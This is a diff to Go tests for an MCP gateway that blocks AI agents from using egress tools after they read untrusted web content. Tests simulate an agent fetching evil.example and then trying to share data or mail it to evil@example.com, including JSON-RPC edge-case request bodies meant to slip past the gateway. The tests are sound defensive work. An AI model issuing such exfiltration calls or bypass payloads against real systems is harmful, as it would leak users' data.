@@ -88,7 +88,9 @@ func TestAttackCatalogCannotDropEgress(t *testing.T) {
 	r := newRig(t, nil)
 	a := r.agent("ai-agent://dev/sharer")
 	s := r.session(a, "", nil)
-	r.call(s, "web__fetch", map[string]string{"url": "https://evil.example"})
+	if !r.call(s, "web__fetch", map[string]string{"url": "https://evil.example"}) {
+		t.Fatal("the untrusted read was denied")
+	}
 	if r.call(s, "kb__share", map[string]string{"with": "evil@example.com"}) {
 		t.Fatal("kb__share, an egress tool by the gateway's configuration, was allowed to a tainted agent")
 	}
@@ -97,9 +99,10 @@ func TestAttackCatalogCannotDropEgress(t *testing.T) {
 	}
 }
 
-// Under a redact obligation nothing of the field passes, in any content.
-// (Item 2: an embedded resource passed whole.)
-func TestAttackRedactionEveryContent(t *testing.T) {
+// Under a redact obligation nothing of the field passes, in text or in an
+// embedded resource (item 2: an embedded resource passed whole; every
+// content type is in mcpgw's TestRedactEveryContentType).
+func TestAttackRedactionEmbeddedResource(t *testing.T) {
 	t.Parallel()
 	r := newRig(t, nil)
 	res, err := r.session(r.agent("ai-agent://dev/clerk"), "", nil).CallTool(r.ctx, &mcp.CallToolParams{Name: "records__customer"})
@@ -210,7 +213,9 @@ func TestAttackJSONRPCEdgeCases(t *testing.T) {
 	t.Parallel()
 	r := newRig(t, nil)
 	a := r.agent("ai-agent://dev/rpc")
-	r.call(r.session(a, "", nil), "web__fetch", map[string]string{"url": "https://evil.example"}) // tainted: mail__send is denied from here on
+	if !r.call(r.session(a, "", nil), "web__fetch", map[string]string{"url": "https://evil.example"}) { // tainted: mail__send is denied from here on
+		t.Fatal("the untrusted read was denied")
+	}
 	h := http.Header{"Mcp-Protocol-Version": {"2026-07-28"}, "Mcp-Method": {"tools/call"}, "Mcp-Name": {"mail__send"}}
 	meta := `"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}`
 	for _, tc := range []struct{ name, body string }{
@@ -225,7 +230,9 @@ func TestAttackJSONRPCEdgeCases(t *testing.T) {
 		{"jsonrpc 1.0", `{"jsonrpc":"1.0","id":1,"method":"tools/call","params":{` + meta + `,"name":"mail__send","arguments":{"to":"evil@example.com"}}}`},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			r.raw(a, tc.body, h)
+			if _, body := r.raw(a, tc.body, h); strings.Contains(body, `"sent"`) {
+				t.Fatalf("executed: %s", body)
+			}
 		})
 	}
 	if got := r.egress(); len(got) != 0 {
